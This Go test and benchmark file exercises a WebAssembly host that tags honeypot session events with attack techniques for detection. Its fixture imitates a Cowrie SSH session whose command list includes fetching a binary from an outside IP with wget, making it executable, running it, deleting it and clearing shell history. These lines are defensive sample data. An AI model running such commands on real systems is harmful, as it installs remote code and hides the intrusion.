package host

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"sync"
	"testing"

	"github.com/tetratelabs/wazero"
	"github.com/tetratelabs/wazero/api"
	"github.com/tetratelabs/wazero/imports/wasi_snapshot_preview1"

	"github.com/decnet/ttp/abi"
)

// The reference figures of the ABI (issue note and RATIONALE.md): one ~400-byte session event
// through the same eight predicates, read from the record by index (abi), decoded from JSON
// with encoding/json inside the guest (json), and the empty call (bare).

var refOnce sync.Once
var refDir string
var refErr error

// buildReference builds the three reference guests once per test binary.
func buildReference(tb testing.TB) string {
	tb.Helper()
	if testing.Short() || raceEnabled {
		tb.Skip("builds Go wasm guests; not under -short or -race")
	}
	refOnce.Do(func() {
		refDir, refErr = os.MkdirTemp("", "ttp-reference-")
		if refErr != nil {
			return
		}
		for _, name := range []string{"lifter", "jsontwin", "bare"} {
			cmd := exec.Command("go", "build", "-buildmode=c-shared", "-o", filepath.Join(refDir, name+".wasm"), "./testdata/reference/"+name)
			cmd.Env = append(os.Environ(), "GOOS=wasip1", "GOARCH=wasm")
			if out, err := cmd.CombinedOutput(); err != nil {
				refErr = &buildError{name, string(out), err}
				return
			}
		}
	})
	if refErr != nil {
		tb.Fatal(refErr)
	}
	return refDir
}

type buildError struct {
	name, out string
	err       error
}

func (e *buildError) Error() string { return e.name + ": " + e.err.Error() + "\n" + e.out }

var refEvent = abi.Event{SourceKind: "session", SourceID: "cowrie-7f3a", SessionID: "7f3a", Payload: map[string]any{
	"commands":         []any{"uname -a", "cat /proc/cpuinfo", "cd /tmp", "wget http://45.9.1.2/x86", "chmod +x x86", "./x86", "rm -f x86", "history -c", "exit"},
	"command_times_ms": []any{0.0, 120.0, 240.0, 390.0, 510.0, 640.0, 790.0, 900.0, 1010.0},
	"duration_ms":      1400.0, "login_failures": 6.0, "login_success": true,
	"downloads":      []any{map[string]any{"url": "http://45.9.1.2/x86", "sha256": "9f86d081884c7d659a2feaa0c55ad015"}},
	"client_version": "SSH-2.0-Go", "usernames": []any{"root"},
}}

func refInstance(tb testing.TB, name string, fields bool) (Instance, abi.ReplyLimits) {
	tb.Helper()
	ctx := context.Background()
	wasm, err := os.ReadFile(filepath.Join(buildReference(tb), name+".wasm"))
	if err != nil {
		tb.Fatal(err)
	}
	m, err := testCompiler.LoadWasm(ctx, name, wasm, Limits{})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { m.Close(ctx) })
	inst, err := m.NewInstance(ctx)
	if err != nil {
		tb.Fatal(err)
	}
	req := &abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9031", Kind: "lifter:reference_x", AppliesTo: []string{"session"}, Emits: []abi.EmitConfig{{TechniqueID: "T1059", Tactic: "execution", Confidence: 0.6}}}}}
	if _, err := inst.Configure(ctx, req); err != nil {
		tb.Fatal(err)
	}
	return inst, abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: len(m.Manifest().EvidenceKeys)}
}

// TestReferenceTwins: the record-reading lifter and its JSON twin give the same drafts.
func TestReferenceTwins(t *testing.T) {
	ctx := context.Background()
	ev := abi.Expand(refEvent)[0]
	inst, lim := refInstance(t, "lifter", true)
	viaABI, err := inst.Tag(ctx, 0, &ev, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	twin, _ := refInstance(t, "jsontwin", false)
	data, _ := json.Marshal(ev)
	reply, err := twin.(RawTagger).TagRecord(ctx, data)
	if err != nil {
		t.Fatal(err)
	}
	viaJSON, err := abi.DecodeReply(reply, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(viaABI) != 1 || len(viaJSON) != 1 || viaABI[0].Evidence[0].Value != viaJSON[0].Evidence[0].Value {
		t.Fatalf("abi %+v, json %+v", viaABI, viaJSON)
	}
	t.Logf("event of %d bytes as JSON, score %v", len(data), viaABI[0].Evidence[0].Value)
}

func BenchmarkReference(b *testing.B) {
	ctx := context.Background()
	ev := abi.Expand(refEvent)[0]
	b.Run("abi", func(b *testing.B) {
		inst, lim := refInstance(b, "lifter", true)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			var err error
			if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
	})
	b.Run("json", func(b *testing.B) {
		inst, lim := refInstance(b, "jsontwin", false)
		data, _ := json.Marshal(ev)
		raw := inst.(RawTagger)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			reply, err := raw.TagRecord(ctx, data)
			if err != nil {
				b.Fatal(err)
			}
			if out, err = abi.DecodeReply(reply, lim, out[:0]); err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
	})
	// The guest alone, called straight through wazero (no deadline timer, no record encoding,
	// no reply decoding), in a runtime with and without WithCloseOnContextDone: the difference
	// is what the termination checks cost a Go guest, which exits to the host's Go at every
	// function entry and loop iteration (RATIONALE.md, "What a deadline costs a Go guest").
	for _, checked := range []bool{true, false} {
		name := "guest-checked"
		if !checked {
			name = "guest-unchecked"
		}
		b.Run(name, func(b *testing.B) {
			tag, stack := rawReference(b, checked, &ev)
			arg := [2]uint64{stack[0], stack[1]}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				stack[0], stack[1] = arg[0], arg[1]
				if err := tag.CallWithStack(ctx, stack); err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			if uint32(stack[0]) != 30 { // one draft with one number: the reply TestReferenceTwins checks
				b.Fatalf("reply of %d bytes", uint32(stack[0]))
			}
		})
	}
	b.Run("bare", func(b *testing.B) {
		inst, lim := refInstance(b, "bare", false)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			var err error
			if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// rawReference instantiates the reference lifter in a runtime of its own, configured with
// the benchmark's rule, and writes ev's record into its input buffer: it returns ttp_tag and
// the stack to call it with.
func rawReference(tb testing.TB, checked bool, ev *abi.Event) (api.Function, []uint64) {
	tb.Helper()
	ctx := context.Background()
	wasm, err := os.ReadFile(filepath.Join(buildReference(tb), "lifter.wasm"))
	if err != nil {
		tb.Fatal(err)
	}
	r := wazero.NewRuntimeWithConfig(ctx, wazero.NewRuntimeConfig().WithCloseOnContextDone(checked))
	tb.Cleanup(func() { r.Close(ctx) })
	wasi_snapshot_preview1.MustInstantiate(ctx, r)
	mod, err := r.InstantiateWithConfig(ctx, wasm, wazero.NewModuleConfig().WithName("").WithStartFunctions("_initialize"))
	if err != nil {
		tb.Fatal(err)
	}
	mem := mod.Memory()
	call := func(name string, args ...uint64) uint64 {
		res, err := mod.ExportedFunction(name).Call(ctx, args...)
		if err != nil {
			tb.Fatalf("%s: %v", name, err)
		}
		if len(res) == 0 {
			return 0
		}
		return res[0]
	}
	write := func(b []byte) uint64 {
		ptr := call("ttp_alloc", uint64(len(b)))
		if !mem.Write(uint32(ptr), b) {
			tb.Fatal("ttp_alloc returned a buffer outside memory")
		}
		return ptr
	}
	res := call("ttp_describe")
	raw, _ := mem.Read(uint32(res>>32), uint32(res))
	man, err := abi.DecodeManifest(raw)
	if err != nil {
		tb.Fatal(err)
	}
	pl, err := plans(man)
	if err != nil {
		tb.Fatal(err)
	}
	req, _ := json.Marshal(abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9031", Kind: "lifter:reference_x", AppliesTo: []string{"session"},
		Emits: []abi.EmitConfig{{TechniqueID: "T1059", Tactic: "execution", Confidence: 0.6}}}}})
	res = call("ttp_configure", write(req), uint64(len(req)))
	if raw, _ := mem.Read(uint32(res>>32), uint32(res)); string(raw) != "{}" {
		tb.Fatalf("configure: %s", raw)
	}
	rec := abi.AppendRecord(nil, 0, pl[0], ev)
	return mod.ExportedFunction("ttp_tag"), []uint64{write(rec), uint64(len(rec))}
}
